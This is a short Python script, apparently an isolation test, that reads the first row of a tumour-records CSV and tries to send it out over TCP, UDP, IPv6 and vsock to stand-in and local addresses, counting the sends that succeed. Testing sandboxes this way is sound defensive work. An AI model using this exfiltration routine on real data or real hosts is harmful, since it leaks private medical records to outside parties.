"""Sends the first row out: TCP, UDP, DNS, IPv6, vsock. Counts what got out."""
import csv, json, os

OUT = os.environ["COFFER_OUT"]
with open("/data/tumours/tumours.csv", newline="") as file:
    ROWS = list(csv.DictReader(file))
import socket

row = ",".join(ROWS[0].values()).encode()
sent = 0
for family, kind, address in [
    (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 7070)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::1", 80)),
    (40, socket.SOCK_STREAM, (2, 1024)),
]:
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(0.5)
            s.connect(address)
            sent += s.send(row) > 0
    except OSError:
        pass

with open(os.path.join(OUT, "metrics.json"), "w") as file:
    json.dump({"n": sent}, file)
